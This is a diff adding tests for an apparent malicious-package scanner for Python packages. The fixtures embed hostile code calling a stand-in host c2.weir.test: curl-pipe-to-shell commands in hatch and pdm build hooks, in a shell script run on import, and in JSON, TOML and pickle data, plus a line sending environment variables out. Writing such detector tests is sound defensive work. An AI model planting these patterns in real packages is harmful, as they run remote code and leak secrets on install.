@@ -101,6 +101,113 @@ describe('what runs when', () => {
   });
 });
 
+describe('hooks of a build', () => {
+  const HATCH = '[tool.hatch.build.targets.wheel.hooks.custom]\npath = "tools/hook.py"\n';
+
+  test.each([
+    [HATCH, 'tools/hook.py'],
+    ['[tool.hatch.metadata.hooks.custom]\n', 'hatch_build.py'],
+    ['[tool.pdm.build]\ncustom-hook = "tools/hook.py"\n', 'tools/hook.py'],
+    ['[tool.pdm.version]\nsource = "scm"\n', 'pdm_build.py'],
+  ])('run at install: %s', async (pyproject, path) => {
+    const files = {
+      'PKG-INFO': METADATA,
+      'acme/__init__.py': '',
+      'pyproject.toml': pyproject,
+      [path]: 'x = 1',
+    };
+    expect(await stagesOf(files, 'acme_tool-1.2.0.tar.gz')).toMatchObject({ [path]: 'install' });
+  });
+
+  test.each([
+    [
+      HATCH,
+      'from hatchling.builders.hooks.plugin.interface import BuildHookInterface\nclass H(BuildHookInterface):\n  def initialize(self, version, data):\n    os.system("curl -s https://c2.weir.test/x | sh")\n',
+    ],
+    [
+      '[tool.pdm.build]\ncustom-hook = "tools/hook.py"\n',
+      'def pdm_build_initialize(context):\n  os.system("curl -s https://c2.weir.test/x | sh")\n',
+    ],
+  ])('are called by it: %s', async (pyproject, hook) => {
+    const files = {
+      'PKG-INFO': METADATA,
+      'acme/__init__.py': '',
+      'pyproject.toml': pyproject,
+      'tools/hook.py': `import os\n${hook}`,
+    };
+    expect((await analyze(files, 'acme_tool-1.2.0.tar.gz')).judgement.verdict).toBe('malicious');
+  });
+});
+
+describe('a script of a shell that code starts', () => {
+  const SCRIPT = '#!/bin/sh\ncurl -s https://c2.weir.test/x | sh\n';
+  const START = 'subprocess.run(["sh", str(Path(__file__).parent / "setup.sh")])';
+  const HEAD = 'import subprocess\nfrom pathlib import Path\n';
+
+  test('is read where loading the package starts it', async () => {
+    const files = { 'PKG-INFO': METADATA, 'acme/__init__.py': HEAD + START, 'acme/setup.sh': SCRIPT };
+    expect((await analyze(files, 'acme_tool-1.2.0.tar.gz')).judgement.verdict).toBe('malicious');
+  });
+
+  test('is not where somebody has to ask for it', async () => {
+    const code = `${HEAD}def go():\n  ${START}`;
+    const files = { 'PKG-INFO': METADATA, 'acme/__init__.py': code, 'acme/setup.sh': SCRIPT };
+    expect((await analyze(files, 'acme_tool-1.2.0.tar.gz')).judgement.verdict).toBe('benign');
+  });
+});
+
+describe('data that says what is run', () => {
+  const READS = 'import json, os, pickle\nfrom pathlib import Path\nOWN = Path(__file__).parent\n';
+  const COMMAND = 'curl -s https://c2.weir.test/x | sh';
+  const hooks = JSON.stringify({ ready: ['os', 'system', COMMAND] });
+  const named =
+    'm, n, *a = json.loads((OWN / "cfg.json").read_text())["ready"]\ngetattr(__import__(m), n)(*a)\n';
+
+  test.each([
+    ['a command', 'os.system(json.loads((OWN / "cfg.json").read_text())["ready"][2])', 'cfg.json', hooks],
+    [
+      'one of an open file',
+      'with open(OWN / "cfg.json") as f: os.system(json.load(f)["ready"][2])',
+      'cfg.json',
+      hooks,
+    ],
+    ['a function by its name', named, 'cfg.json', hooks],
+    [
+      'code',
+      'exec(json.loads((OWN / "c.json").read_text()))',
+      'c.json',
+      JSON.stringify(`os.system('${COMMAND}')`),
+    ],
+    [
+      'a table',
+      'import tomllib\nos.system(tomllib.loads((OWN / "c.toml").read_text())["a"])',
+      'c.toml',
+      `a = '${COMMAND}'`,
+    ],
+    [
+      'a pickle',
+      'pickle.loads((OWN / "w.pkl").read_bytes())',
+      'w.pkl',
+      `cposix\nsystem\n(S'${COMMAND}'\ntR.`,
+    ],
+    [
+      'an open pickle',
+      'pickle.load((OWN / "w.pkl").open("rb"))',
+      'w.pkl',
+      `cposix\nsystem\n(S'${COMMAND}'\ntR.`,
+    ],
+  ])('is followed into what it tells: %s', async (_what, code, name, content) => {
+    const files = { 'PKG-INFO': METADATA, 'acme/__init__.py': READS + code, [`acme/${name}`]: content };
+    expect((await analyze(files, 'acme_tool-1.2.0.tar.gz')).judgement.verdict).toBe('malicious');
+  });
+
+  test('is none where it names what is the own package', async () => {
+    const own = JSON.stringify({ ready: ['acme.themes', 'apply', 'bash'] });
+    const files = { 'PKG-INFO': METADATA, 'acme/__init__.py': READS + named, 'acme/cfg.json': own };
+    expect((await analyze(files, 'acme_tool-1.2.0.tar.gz')).judgement.verdict).toBe('benign');
+  });
+});
+
 describe('data that is read and run', () => {
   const SENDS =
     "import os, urllib.request\nurllib.request.urlopen('https://c2.weir.test', data=str(dict(os.environ)).encode())\n";
